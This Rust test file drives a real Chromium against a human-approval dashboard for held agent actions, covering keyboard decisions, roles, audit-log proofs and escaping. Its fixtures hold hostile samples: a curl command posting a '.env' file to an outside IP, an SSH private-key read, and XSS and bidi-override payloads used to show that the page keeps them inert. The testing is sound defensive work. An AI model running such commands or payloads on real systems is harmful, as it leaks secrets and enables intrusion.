//! The approver's page in a real Chromium: live, by keyboard, with hostile text, without JavaScript.
//!
//! Leaves pictures of the pages in `$GUARD_ARTEFACTS` (default `out/`).

#![expect(clippy::unwrap_used, reason = "tests")]

mod fake;
mod report;

use fake::{Fake, connect, exec, read};
use guard_audit::log::Dir;
use guard_controller::Role;
use guard_model::{Action, HoldState, RawText};
use guard_tests::webdriver::{Browser, Driver, key};
use std::{env, path::PathBuf, time::Duration};

fn artefact(name: &str) -> PathBuf {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../out");
    let folder = env::var_os("GUARD_ARTEFACTS").map_or_else(|| PathBuf::from(root), PathBuf::from);
    folder.join(name)
}

fn row(id: guard_model::HoldId) -> String {
    format!("[data-hold='{id}']")
}

/// Signs in by the link: the page by itself does nothing, its button does.
fn sign_in(browser: &Browser<'_>, url: &str) {
    browser.open(url).unwrap();
    browser.open(url).unwrap();
    browser.wait_for("the button", |b| Ok(b.text("form button")? == "Sign in")).unwrap();
    browser.click("form button").unwrap();
    browser.wait_for("the account page", |b| Ok(b.url()?.contains("/account"))).unwrap();
}

fn nothing_violated(browser: &Browser<'_>) {
    let console = browser.console().unwrap();
    assert!(console.is_empty(), "the browser's console says: {console:#?}");
}

#[test]
fn a_hold_appears_and_is_approved_and_another_denied_by_keyboard_alone() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    sign_in(&browser, &fake.sign_in_url("ann", &[Role::Approver]));
    browser.open(&fake.url("/")).unwrap();
    let empty = |b: &Browser<'_>| Ok(b.text("#queue")?.contains("Nothing waits"));
    browser.wait_for("an empty queue", empty).unwrap();
    browser.run("window.sameDocument = true").unwrap();
    std::thread::sleep(Duration::from_millis(500));

    let wanted = fake.hold(1, connect("203.0.113.9", 443));
    let shown = browser.wait_for("the new row", |b| Ok(b.count(&row(wanted))? == 1)).unwrap();
    let unwanted = fake.hold(2, read("/home/dev/.ssh/id_ed25519"));
    browser.wait_for("the second row", |b| Ok(b.count(&row(unwanted))? == 1)).unwrap();
    browser.wait_for("the title", |b| Ok(b.title()?.starts_with("(2)"))).unwrap();
    assert_eq!(browser.run("return window.sameDocument").unwrap(), true, "no reload");
    println!("hold to visible row: {shown:?}");

    browser.press("j").unwrap();
    browser.press(key::ENTER).unwrap();
    browser.wait_for("the request", |b| Ok(b.url()?.contains("/holds/"))).unwrap();
    assert!(browser.text("h1").unwrap().contains("203.0.113.9:443"));
    std::thread::sleep(Duration::from_millis(1100));
    browser.press("a").unwrap();
    browser.press("the package mirror, as agreed").unwrap();
    browser.press(key::ENTER).unwrap();
    browser.wait_for("approval", |b| Ok(b.text("#panel h2")? == "Approved")).unwrap();
    let view = fake.view(wanted);
    assert_eq!((view.state, view.hasty), (HoldState::Approved, false));
    assert_eq!(view.decided_by.as_deref(), Some("ann"));
    assert_eq!(view.reason.as_deref(), Some("the package mirror, as agreed"));

    browser.press("n").unwrap();
    browser.wait_for("the next", |b| Ok(b.text("h1")?.contains("id_ed25519"))).unwrap();
    browser.press("d").unwrap();
    browser.press("no business with keys").unwrap();
    browser.press(key::ENTER).unwrap();
    browser.wait_for("denial", |b| Ok(b.text("#panel h2")? == "Denied")).unwrap();
    assert_eq!(fake.view(unwanted).state, HoldState::Rejected);
    nothing_violated(&browser);
}

#[test]
fn enter_without_a_chosen_verdict_and_a_decision_without_a_reason_do_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    sign_in(&browser, &fake.sign_in_url("ann", &[Role::Approver]));
    let id = fake.hold(1, connect("203.0.113.9", 443));
    browser.open(&fake.url(&format!("/holds/{id}"))).unwrap();
    browser.press(&format!("a{}", key::ENTER)).unwrap();
    browser.fill("#reason", "words").unwrap();
    browser.press(&format!("{}{}", key::ESCAPE, key::ENTER)).unwrap();
    browser.click("#reason").unwrap();
    browser.press(key::ENTER).unwrap();
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(fake.view(id).state, HoldState::Pending);
    assert!(browser.url().unwrap().ends_with(&id.to_string()));
}

#[test]
fn text_that_a_session_controls_is_inert_and_visible() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    sign_in(&browser, &fake.sign_in_url("ann", &[Role::Approver]));
    let mut action = exec("/tmp/<script>window.owned=1</script>\u{202e}gpj.sh", &["a b", "", "c"]);
    if let Action::Exec { argv, .. } = &mut action {
        argv.push(RawText::new(b"\x1b[2K\"><img src=x onerror=window.owned=1>\xff".to_vec()));
        argv.push("</code><form action=//evil><button>Approve".into());
    }
    let id = fake.hold(1, action);
    for page in ["/".to_owned(), format!("/holds/{id}"), "/history".into()] {
        browser.open(&fake.url(&page)).unwrap();
        let text = browser.text("main").unwrap();
        assert!(text.contains("<script>window.owned=1</script>\\u{202e}gpj.sh"), "{page}: {text}");
        assert!(!text.contains(['\u{202e}', '\u{1b}']));
        assert_eq!(browser.run("return window.owned === undefined").unwrap(), true);
        assert_eq!(browser.count("main img, main form[action^='//']").unwrap(), 0);
    }
    browser.open(&fake.url(&format!("/holds/{id}"))).unwrap();
    assert_eq!(browser.count(".argv li").unwrap(), 5);
    assert_eq!(browser.text(".argv li:nth-child(2)").unwrap().replace('\n', " "), "1 (empty)");
    let hostile = browser.text(".argv li:nth-child(4) code").unwrap();
    assert_eq!(hostile, "\\u{1b}[2K\"><img src=x onerror=window.owned=1>\\xff");
    browser.screenshot(&artefact("hostile.png")).unwrap();
    nothing_violated(&browser);
    // What a hole in the escaping could insert would not run, and this test would hear of it.
    let insert = "const script = document.createElement('script'); \
        script.textContent = 'window.owned = 1'; document.body.append(script); \
        return window.owned === undefined";
    assert_eq!(browser.run(insert).unwrap(), true);
    let console = browser.console().unwrap().concat();
    assert!(console.contains("Content Security Policy"), "{console}");
}

#[test]
fn without_javascript_plain_forms_do() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), false).unwrap();
    sign_in(&browser, &fake.sign_in_url("ann", &[Role::Approver]));
    let id = fake.hold(1, connect("203.0.113.9", 443));
    browser.open(&fake.url("/")).unwrap();
    assert_eq!(browser.count("html.js").unwrap(), 0, "JavaScript is off");
    browser.click(&format!("{} .row-main", row(id))).unwrap();
    browser.wait_for("the form", |b| Ok(b.count("#reason")? == 1)).unwrap();
    browser.fill("#reason", "as agreed").unwrap();
    browser.click("button.approve").unwrap();
    browser.wait_for("approval", |b| Ok(b.text("#panel h2")? == "Approved")).unwrap();
    assert_eq!(fake.view(id).state, HoldState::Approved);
    browser.click(".me form button").unwrap();
    browser.wait_for("the sign-in page", |b| Ok(b.url()?.ends_with("/sign-in"))).unwrap();
    browser.open(&fake.url("/")).unwrap();
    assert!(browser.url().unwrap().ends_with("/sign-in"), "signed out");
}

#[test]
fn an_auditor_sees_why_the_buttons_are_not_theirs() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    sign_in(&browser, &fake.sign_in_url("aud", &[Role::Auditor]));
    let id = fake.hold(1, connect("203.0.113.9", 443));
    browser.open(&fake.url(&format!("/holds/{id}"))).unwrap();
    assert!(browser.text("#why-not").unwrap().contains("role `approver` is missing"));
    assert_eq!(browser.count("#decide fieldset:disabled").unwrap(), 1);
    assert!(fake.view(id).opened_unix_ms.is_none(), "an auditor does not open it for others");
}

#[test]
fn evidence_is_searched_and_a_sessions_timeline_read_from_first_to_last() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    sign_in(&browser, &fake.sign_in_url("aud", &[Role::Auditor]));
    fake.evidence();
    fake.hold(1, connect("203.0.113.9", 443));
    fake.indexed();
    browser.open(&fake.url("/evidence")).unwrap();
    assert!(browser.count("#found tbody tr").unwrap() > 8);
    browser.fill("[name=text]", "src/main.rs").unwrap();
    browser.click(".filter button").unwrap();
    browser.wait_for("one hit", |b| Ok(b.count("#found tbody tr")? == 1)).unwrap();
    assert!(browser.text("#found tbody tr").unwrap().contains("/home/dev/work/src/main.rs"));
    browser.click("#found tbody tr a[href$=timeline]").unwrap();
    browser.wait_for("the timeline", |b| Ok(b.count("#timeline")? == 1)).unwrap();
    assert!(browser.text("#timeline li:first-child").unwrap().contains("start"));
    assert!(browser.text("#timeline li:nth-child(5)").unwrap().contains("src/main.rs"));
    assert!(browser.text("#timeline li:last-child").unwrap().contains("new → pending"));
    browser.click("#timeline li:nth-child(5) a").unwrap();
    browser.wait_for("the entry", |b| Ok(b.count("#leaf-hash")? == 1)).unwrap();
    assert_eq!(browser.text("#leaf-hash").unwrap().trim().len(), 64);
    assert!(browser.text("#ocsf").unwrap().contains("\"class_uid\": 1001"));
    browser.open(&fake.url("/log")).unwrap();
    assert!(browser.text("#size").unwrap().trim().parse::<u64>().unwrap() > 8);
    nothing_violated(&browser);
}

#[test]
fn an_entry_is_verified_in_the_page_and_what_was_changed_is_refused_there() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    sign_in(&browser, &fake.sign_in_url("aud", &[Role::Auditor]));
    fake.evidence();
    fake.indexed();
    let state = || browser.text("#proof-state").unwrap();
    let becomes = |word: &str| {
        browser.wait_for(word, |b| Ok(b.text("#proof-state")?.starts_with(word))).unwrap();
    };
    // Each place in the tree has another path to the root.
    let size =
        guard_audit::log::checkpoint(&Dir::new(fake.controller().log_dir())).unwrap().head.size;
    for index in 0..size {
        browser.open(&fake.url(&format!("/evidence/{index}"))).unwrap();
        becomes("Verified in this page");
    }
    let facts = browser.text("#proof-facts").unwrap();
    for word in [
        "is in the tree of",
        "signed by the key that this page came with",
        "the one that was logged",
    ] {
        assert!(facts.contains(word), "{facts}");
    }
    browser.resize(1100, 1500).unwrap();
    browser.screenshot(&artefact("proof.png")).unwrap();
    let right = fake.controller().log_key().unwrap();
    let stranger = guard_audit::log::LogKey::generate(right.name()).unwrap();
    for (key, good) in [(stranger.verifier(), false), (&right, true)] {
        let set = format!("document.querySelector('#trusted-key').value = '{}'", key.as_str());
        browser.run(&set).unwrap();
        browser.click("#verify-proof").unwrap();
        becomes(if good { "Verified in this page" } else { "NOT verified" });
    }
    // One character of each thing that is verified.
    for change in [
        "d.payload = d.payload.replace('unix_ms', 'unix_mz')",
        "d.salt = d.salt.replace(/^./, (c) => c === '0' ? '1' : '0')",
        "d.proof = d.proof.replace(/extra ./, (t) => t === 'extra A' ? 'extra B' : 'extra A')",
        "d.proof = d.proof.replace(/(\\n[A-Za-z0-9+\\/]{20})(.)/, (t, a, c) => a + (c === 'A' ? 'B' : 'A'))",
        "d.proof = d.proof.replace(/(\\u2014 .{60})(.)/, (t, a, c) => a + (c === 'A' ? 'B' : 'A'))",
        "d.proof = d.proof.replace(/index [0-9]+/, 'index 0')",
        "document.querySelector('#leaf-hash').textContent = '00'.repeat(32)",
    ] {
        browser.open(&fake.url(&format!("/evidence/{}", size - 2))).unwrap();
        becomes("Verified in this page");
        browser
            .run(&format!("const d = document.querySelector('#proof').dataset; {change}"))
            .unwrap();
        browser.click("#verify-proof").unwrap();
        becomes("NOT verified");
        assert!(browser.count("#proof-state.bad").unwrap() == 1, "{change}: {}", state());
    }
    nothing_violated(&browser);
}

#[test]
fn the_pages_are_pictured() {
    let dir = tempfile::tempdir().unwrap();
    let fake = Fake::start(dir.path());
    let driver = Driver::start().unwrap();
    let browser = driver.browser(&dir.path().join("profile"), true).unwrap();
    let roles = [Role::Approver, Role::Admin];
    let url = fake.sign_in_url("ann", &roles);
    browser.open(&url).unwrap();
    browser.screenshot(&artefact("sign-in.png")).unwrap();
    sign_in(&browser, &url);
    browser.screenshot(&artefact("account.png")).unwrap();
    fake.evidence();
    let past = fake.hold(1, connect("203.0.113.9", 443));
    let actor = fake.wait(fake.controller().user_by_name("ann")).unwrap().unwrap().actor();
    let verdict = guard_model::Verdict::Allow;
    fake.wait(fake.controller().decide(past, &actor, verdict, "the mirror")).unwrap();
    let args =
        ["curl", "-sS", "-X", "POST", "--data-binary", "@.env", "https://203.0.113.9/in put"];
    let program = fake.hold(2, exec("/home/dev/work/target/debug/deploy", &args));
    fake.hold(3, read("/home/dev/.ssh/id_ed25519"));
    fake.hold(4, connect("203.0.113.9", 443));
    fake.indexed();
    let pages = [
        ("queue", "/".to_owned()),
        ("request", format!("/holds/{program}")),
        ("sessions", "/sessions".into()),
        ("session", format!("/sessions/{}", fake.session().id)),
        ("history", "/history".into()),
        ("evidence", "/evidence".into()),
        ("timeline", format!("/sessions/{}/timeline", fake.session().id)),
        ("log", "/log".into()),
        ("hosts", "/hosts".into()),
        ("users", "/users".into()),
    ];
    for (name, path) in &pages {
        browser.open(&fake.url(path)).unwrap();
        browser.wait_for("the page", |b| Ok(b.count("main h1")? == 1)).unwrap();
        browser.screenshot(&artefact(&format!("{name}.png"))).unwrap();
    }
    browser.prefer_colours("dark").unwrap();
    browser.open(&fake.url(&pages[1].1)).unwrap();
    browser.screenshot(&artefact("request-dark.png")).unwrap();
    browser.resize(420, 900).unwrap();
    for (name, path) in &pages[..2] {
        browser.open(&fake.url(path)).unwrap();
        browser.screenshot(&artefact(&format!("{name}-phone.png"))).unwrap();
        let overflow = "return document.documentElement.scrollWidth > innerWidth";
        assert_eq!(browser.run(overflow).unwrap(), false, "{name} scrolls sideways on a phone");
    }
    nothing_violated(&browser);
}
